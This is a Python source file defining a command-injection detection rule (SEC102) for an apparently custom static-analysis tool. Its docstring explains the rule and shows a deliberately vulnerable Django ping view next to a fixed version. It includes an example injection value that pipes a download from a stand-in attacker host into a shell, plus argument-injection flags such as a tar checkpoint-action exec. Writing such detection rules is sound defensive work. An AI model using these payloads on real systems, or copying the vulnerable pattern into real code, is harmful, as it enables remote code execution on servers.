"""# OS command built from request data

## What it does
Reports request data (query strings, form and JSON bodies, headers, cookies, uploaded files, route
parameters) that reaches a command run by the operating system: `os.system()` and `os.popen()`, the
`subprocess` functions (`run`, `call`, `check_call`, `check_output`, `Popen`, `getoutput`,
`getstatusoutput`) when they run a shell (`shell=True`) or when the program itself comes from the
request, `asyncio.create_subprocess_shell()`, and the `os.exec*()` and `os.spawn*()` families.

The finding carries the path from the source to the sink step by step, with the file and line of
each step, across functions and modules. It stays quiet when the value went through `shlex.quote()`,
when request data is only an argument in a list passed without a shell (`subprocess.run(["convert",
path, out])`), for constant commands and for flows that only exist through a dead branch. Like every
taint rule, it treats as clean the values converted to a number, `UUID`, `Decimal`, date or IP
address, and values checked before the sink against a constant allow-list (`if value not in ALLOWED:
abort(400)`) or a full-match regular expression.

## Why it matters
A shell interprets `;`, `&&`, `|`, `$(...)`, backticks and newlines, so a value such as
`8.8.8.8; curl https://evil.example/x | sh` turns a "ping this host" feature into remote code
execution as the web server's user: read the settings and their secrets, pivot into the internal
network, install a miner. The same holds when the request picks the program to run. Blocking a
few characters does not work: there are too many metacharacters, and shells differ.

## Example
```python
import subprocess

from django.http import HttpResponse


def ping(request):
    host = request.GET["host"]
    output = subprocess.check_output(f"ping -c 1 {host}", shell=True, text=True)
    return HttpResponse(output, content_type="text/plain")
```

## Use instead
Validate the value for what it is, then pass an argument list so no shell ever parses it:
```python
import ipaddress
import subprocess

from django.http import HttpResponse, HttpResponseBadRequest


def ping(request):
    try:
        host = ipaddress.IPv4Address(request.GET.get("host", ""))
    except ValueError:
        return HttpResponseBadRequest("host must be an IPv4 address")
    result = subprocess.run(
        ["/usr/bin/ping", "-c", "1", str(host)],
        capture_output=True,
        text=True,
        timeout=5,
        check=False,
    )
    return HttpResponse(result.stdout, content_type="text/plain")
```

## Alternatives and trade-offs
- **An argument list without a shell** is the fix in almost every case. The program still parses
  its own options, though: a value starting with `-` can become a flag (`--output=/etc/cron.d/x`,
  `tar --checkpoint-action=exec=...`). Validate the value and put `--` before positional arguments
  when the program supports it (CWE-88, argument injection).
- **`shlex.quote()`** makes one value a single literal word for a POSIX shell, for the rare case
  that needs shell features (pipes, redirection, globbing). Quote every value, never an already
  quoted string, and never on Windows, where `cmd.exe` has different rules. Building the pipeline
  in Python (`Popen(..., stdout=PIPE)` chained) usually removes the need for a shell.
- **An allow-list of programs** (a dict from user choice to an absolute path) when the request
  must select what runs; never run a path taken from the request.
- **A library instead of a binary** removes the process entirely: Pillow instead of ImageMagick's
  `convert`, `shutil` and `pathlib` instead of `cp` and `rm`, `dnspython` instead of `dig`.
- **Containment** (an unprivileged user, a container with a read-only file system, seccomp) limits
  the damage of a miss but is not a fix.

## Libraries
`subprocess` with argument lists, `shlex.quote()` and `shlex.join()`, `ipaddress` for validating
hosts, `plumbum` and `sh` (build argument lists, no shell by default), Pillow, `dnspython`.

## References
- https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
- https://docs.python.org/3/library/subprocess.html#security-considerations
- https://docs.python.org/3/library/shlex.html#shlex.quote
- https://cwe.mitre.org/data/definitions/78.html
- https://cwe.mitre.org/data/definitions/88.html
"""

from __future__ import annotations

from scrutiny.finding import Confidence, Severity
from scrutiny.rule import Rule, TaintSpec

RULE = Rule(
    code="SEC102",
    name="command-injection",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(78,),
    owasp=("A03:2021",),
    doc=__doc__ or "",
    taint=TaintSpec(sink_kind="shell"),
)
